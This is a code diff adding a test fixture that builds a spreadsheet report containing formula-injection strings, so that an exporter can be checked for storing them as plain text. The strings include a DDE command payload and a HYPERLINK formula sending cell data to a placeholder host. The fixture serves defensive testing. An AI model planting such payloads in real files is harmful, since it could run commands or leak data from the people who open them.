@@ -497,6 +497,32 @@ export function goodReport(): Uint8Array {
   return xlsx([reportSheet()]);
 }
 
+/**
+ * Text a unit may send that a spreadsheet would take for a formula (issue 8, hostile content): a unit name,
+ * a label, notes and a figure starting with "=", "+", "-" or "@". Real ones are mostly harmless (phone
+ * numbers, "-5 so với cùng kỳ"), but a formula written from them could run a command (DDE) or send data out.
+ */
+export const HOSTILE = {
+  unit: "=cmd|' /C calc'!A0",
+  label: '@HYPERLINK("http://example.invalid/?q="&B19,"Đảng viên nữ")',
+  notes: ["=1+1", "+84 912 345 678", "-5 so với cùng kỳ", "@Phòng Tổ chức"],
+  figure: "=2+3",
+};
+
+/** Đông Triều's report carrying HOSTILE text as text: unit name, a label, notes F11, F13, F14, F19, and D32. */
+export function hostileReport(): Uint8Array {
+  const s = reportWith([
+    [6, 1, `Đơn vị báo cáo: ${HOSTILE.unit}`],
+    [24, 2, HOSTILE.label],
+    [11, 6, HOSTILE.notes[0]],
+    [13, 6, HOSTILE.notes[1]],
+    [14, 6, HOSTILE.notes[2]],
+    [19, 6, HOSTILE.notes[3]],
+    [32, 4, HOSTILE.figure],
+  ]);
+  return xlsx([s]);
+}
+
 /** A copy of the report sheet with some cells replaced ([row, column 1-based, cell]). */
 function reportWith(changes: [number, number, Cell][], extra: Partial<SheetSpec> = {}): SheetSpec {
   const s = reportSheet();
